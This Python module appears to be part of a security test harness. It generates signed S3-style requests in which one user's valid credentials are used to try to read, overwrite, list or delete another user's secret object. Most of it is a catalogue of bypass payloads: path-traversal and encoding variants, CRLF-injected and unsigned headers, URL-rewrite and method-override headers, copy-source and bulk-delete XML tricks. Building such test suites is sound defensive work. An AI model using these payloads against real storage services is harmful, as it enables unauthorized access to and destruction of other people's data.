"""Requests of a person with good credentials for one folder, each made to reach another one, and what each is."""

from __future__ import annotations

from collections.abc import Iterator
from dataclasses import replace
from itertools import count

from attack.house import BUCKET, House
from attack.signing import Request, presign, sign

Tricks = Iterator[tuple[str, Request]]
NAMES = (
    "x_amz_{}",
    "x-amz_{}",
    "x_amz-{}",
    "X-Amz-{}",
    "x-amz-{} ",
    "x-amz-{}\t",
    " x-amz-{}",
    "x-amz-{}\x0b",
    "http_x_amz_{}",
)
OVERRIDES = ("X-HTTP-Method-Override", "X-HTTP-Method", "X-Method-Override", "_method")
REWRITES = (
    *(
        "X-Original-URL",
        "X-Rewrite-URL",
        "X-Forwarded-Prefix",
        "X-Forwarded-Path",
        "X-Forwarded-Uri",
        "X-Replaced-Path",
    ),
    *("Script-Name", "Script_Name", "Path-Info", "Path_Info", "X-Accel-Redirect", "X-Sendfile", "Request-Uri"),
)


def tricks(built: House, mine: str) -> Tricks:
    yield from _slipped_headers(built, mine)
    yield from _other_spellings_of_the_path(built)
    yield from _hosts_and_rewrites(built, mine)
    yield from _copies(built, mine)
    yield from _listings(built)
    yield from _bulk_and_forms(built)


def _slipped_headers(built: House, mine: str) -> Tricks:
    """Headers that were not signed, in every spelling that somebody behind may read as the real one."""
    keys = built.mallory.keys
    values = {"copy-source": built.secret_path, "acl": "public-read-write", "tagging": "a=b", "security-token": "x"}
    written = (f"{mine}-{number}" for number in count())
    for style in NAMES:
        for name, value in values.items():
            line = f"{style.format(name.title() if style[0] == 'X' else name)}: {value}".encode()
            for label, request in _signed_both_ways(built, "PUT", written):
                yield f"{label}, {style.format(name)!r}", replace(request, lines=(line,))
    for name in ("x-amz-copy-source", "x-amz-acl"):
        header = f"{name}: {built.secret_path}"
        for label, line in {
            "folded": f"x-nothing: a\r\n {header}",
            "after a bare line feed": f"x-nothing: a\n{header}",
            "after a bare return": f"x-nothing: a\r{header}",
            "named in Connection": f"connection: {name}, x-amz-date\r\n{header}",
            "in a trailer": f"trailer: {name}",
        }.items():
            empty = sign(built.request("PUT", next(written)), keys)
            yield f"{name} {label}", replace(empty, lines=(line.encode(),))
    part = sign(built.request("PUT", mine, b"", partNumber="1", uploadId="made-up"), keys)
    yield "a part copied", replace(part, lines=(f"x_amz_copy_source: {built.secret_path}".encode(),))


def _signed_both_ways(built: House, method: str, paths: Iterator[str]) -> Tricks:
    keys = built.mallory.keys
    for label, body in (("a body", b"x"), ("no body", b"")):
        yield f"in the header, {label}", sign(built.request(method, next(paths), body), keys)
        yield f"presigned, {label}", presign(built.request(method, next(paths), body), keys)


def _other_spellings_of_the_path(built: House) -> Tricks:
    """Paths under mallory's folder, or of none, that something behind may read as ada's."""
    ada, mallory = built.ada.folder, built.mallory.folder
    ada_id = ada.split("/")[1]
    ways = [
        f"/{BUCKET}/{mallory}/{up}/{ada_id}/secret"
        for up in (
            "..",
            "%2e%2e",
            "%2E.",
            ".%2e",
            "..;",
            "..%3b",
            "%252e%252e",
            "..%00",
            "..\\",
            "..%5c",
            "%c0%ae%c0%ae",
            "．．",
            "...",
            "..%20",
            "..%09",
        )
    ]
    ways += [f"/{BUCKET}/{mallory}/..%2f{ada_id}%2fsecret", f"/{BUCKET}/{mallory}%2f..%2f{ada_id}/secret"]
    ways += [
        f"//{BUCKET}/{ada}/secret",
        f"/{BUCKET}//{ada}/secret",
        f"/./{BUCKET}/{ada}/secret",
        f"/x/../{BUCKET}/{ada}/secret",
    ]
    ways += [
        f"/{BUCKET}/{ada}/secret{end}"
        for end in ("/", "%00", "%20", ".", ";x", "?", "#x", "%23", "%3f", "/.", "/../secret")
    ]
    ways += [
        f"/{BUCKET}/{ada.replace('home', 'HOME')}/secret",
        f"/{BUCKET}/{ada.upper()}/secret",
        f"/{BUCKET}%2f{ada}/secret",
    ]
    ways += [
        f"/{BUCKET}/{ada.replace('home', 'h%6fme')}/secret",
        f"/{BUCKET.upper()}/{ada}/secret",
        f"/{BUCKET}./{ada}/secret",
    ]
    ways += [
        f"http://{built.host}{built.secret_path}",
        f"http://evil.example{built.secret_path}",
        f"*{built.secret_path}",
    ]
    for path in ways:
        for method, body in (("GET", b""), ("PUT", b"overwritten"), ("DELETE", b""), ("HEAD", b"")):
            yield f"{method} {path}", sign(built.request(method, path, body), built.mallory.keys)
        yield f"presigned {path}", presign(built.request("GET", path), built.mallory.keys)


def _hosts_and_rewrites(built: House, mine: str) -> Tricks:
    keys = built.mallory.keys
    good = sign(built.request("GET", mine), keys)
    posted = sign(built.request("POST", built.secret_path), keys)
    for name in REWRITES:
        yield f"{name}", replace(good, lines=(f"{name}: {built.secret_path}".encode(),))
    for name in OVERRIDES:
        for method in ("GET", "PUT", "DELETE"):
            yield f"{name}: {method}", replace(posted, lines=(f"{name}: {method}".encode(),))
            own = sign(built.request("PUT", mine, b"mine"), keys)
            yield f"{name}: {method} of one's own", replace(own, lines=(f"{name}: {method}".encode(),))
    key = built.secret_path.split("/", 2)[2]
    for host in (
        f"{BUCKET}.s3.amazonaws.com",
        f"{BUCKET}.s3.us-east-1.amazonaws.com",
        f"{BUCKET}.localhost",
        f"{BUCKET}.127.0.0.1",
    ):
        hosted = replace(built.request("GET", f"/{key}"), headers=(("host", host),))
        yield f"the bucket in {host}", sign(hosted, keys)
        both = replace(built.request("GET", f"/{mine.split('/', 2)[2]}"), headers=(("host", host),))
        yield f"another bucket in {host}", sign(replace(both, path=built.secret_path), keys)
    for line in ("x-forwarded-host: house.s3.amazonaws.com", "forwarded: host=house.s3.amazonaws.com", "x-host: house"):
        yield line, replace(sign(built.request("GET", f"/{key}"), keys), lines=(line.encode(),))
    yield "two hosts", replace(good, lines=(b"host: house.s3.amazonaws.com",))


def _copies(built: House, mine: str) -> Tricks:
    """The source of a copy, signed, in every form."""
    secret = built.secret_path.lstrip("/")
    ada_id, mallory = built.ada.folder.split("/")[1], built.mallory.folder
    sources = [secret, f"/{secret}", f"//{secret}", secret.replace("/", "%2F"), secret.replace("/", "%252F")]
    sources += [
        f"{secret}?versionId=null",
        f"{secret}?versionId=",
        f"/{secret}#x",
        secret.replace("%3A", ":"),
        f"./{secret}",
    ]
    sources += [f"{BUCKET}/{mallory}/../{ada_id}/secret", f"{BUCKET}/{mallory}/%2e%2e/{ada_id}/secret", f"{secret} "]
    sources += [
        f"arn:aws:s3:::{secret}",
        f"arn:aws:s3:us-east-1:123456789012:accesspoint/{secret}",
        f"{BUCKET}//{secret[6:]}",
    ]
    sources += [
        f"http://{built.host}/{secret}",
        f"{secret}?{mine}",
        f"{mine}?versionId=/../{secret}",
        f"{mine},{secret}",
    ]
    for number, source in enumerate(sources):
        plain = built.request("PUT", f"{mine}-copied-{number}").with_header("x-amz-copy-source", source)
        yield f"copy of {source}", sign(plain, built.mallory.keys)
        part = built.request("PUT", f"{mine}-copied", b"", partNumber="1", uploadId="x")
        yield f"part of {source}", sign(part.with_header("x-amz-copy-source", source), built.mallory.keys)
    twice = built.request("PUT", f"{mine}-copied").with_header("x-amz-copy-source", mine)
    yield "two sources", sign(twice.and_header("x-amz-copy-source", secret), built.mallory.keys)
    yield "the second source unsigned", sign(twice, built.mallory.keys).and_header("x-amz-copy-source", secret)


def _listings(built: House) -> Tricks:
    """What may be listed is one's own prefix: a listing of ada's would tell her keys."""
    ada, mallory = (folder.replace("%3A", ":") for folder in (built.ada.folder, built.mallory.folder))
    queries: list[tuple[tuple[str, str], ...]] = [
        (("prefix", f"{ada}/"),),
        (("prefix", f"{mallory}/"), ("prefix", f"{ada}/")),
        (("prefix", f"{ada}/"), ("prefix", f"{mallory}/")),
        (("prefix", f"{mallory}/"), ("Prefix", f"{ada}/")),
        (("prefix", f"{mallory}/../{ada[5:]}/"),),
        (),
        (("prefix", ""),),
        (("versions", ""), ("prefix", f"{ada}/")),
        (("uploads", ""),),
    ]
    for query in queries:
        plain = replace(built.request("GET", f"/{BUCKET}"), query=(("list-type", "2"), *query))
        yield f"listing {query}", sign(plain, built.mallory.keys)
        yield f"presigned listing {query}", presign(plain, built.mallory.keys)


def _bulk_and_forms(built: House) -> Tricks:
    key = built.secret_path.split("/", 2)[2].replace("%3A", ":")
    mine = f"{built.mallory.folder}/mine".replace("%3A", ":")
    both = "".join(f"<Object><Key>{one}</Key></Object>" for one in (mine, key))
    for label, body in {
        "bulk delete": f"<Delete><Object><Key>{key}</Key></Object></Delete>",
        "one's own, then hers": f"<Delete>{both}</Delete>",
        "two keys in one object": f"<Delete><Object><Key>{mine}</Key><Key>{key}</Key></Object></Delete>",
        "a comment before the key": f"<Delete><Object><Key><!-- -->{key}</Key></Object></Delete>",
        "a prefixed name": f'<d:Delete xmlns:d="u"><d:Object><d:Key>{key}</d:Key></d:Object></d:Delete>',
        "in CDATA": f"<Delete><Object><Key><![CDATA[{key}]]></Key></Object></Delete>",
        "by a reference": f"<Delete><Object><Key>&#{ord(key[0])};{key[1:]}</Key></Object></Delete>",
    }.items():
        plain = replace(built.request("POST", f"/{BUCKET}", body.encode()), query=(("delete", ""),))
        yield label, sign(plain, built.mallory.keys)
    parts = f'--b\r\nContent-Disposition: form-data; name="key"\r\n\r\n{key}\r\n--b\r\nContent-Disposition: form-data; '
    parts += 'name="file"; filename="f"\r\n\r\noverwritten\r\n--b--\r\n'
    form = built.request("POST", f"/{BUCKET}", parts.encode())
    typed = replace(form, headers=(*form.headers, ("content-type", "multipart/form-data; boundary=b")))
    yield "a posted form", typed
    yield "a posted form, signed", sign(typed, built.mallory.keys)
    for query in (
        "acl",
        "policy",
        "cors",
        "website",
        "replication",
        "logging",
        "versioning",
        "lifecycle",
        "notification",
    ):
        plain = replace(built.request("PUT", f"/{BUCKET}", b"<a/>"), query=((query, ""),))
        yield f"the bucket's {query}", sign(plain, built.mallory.keys)
        whose = replace(built.request("PUT", built.secret_path, b"<a/>"), query=((query, ""),))
        yield f"the secret's {query}", sign(whose, built.mallory.keys)
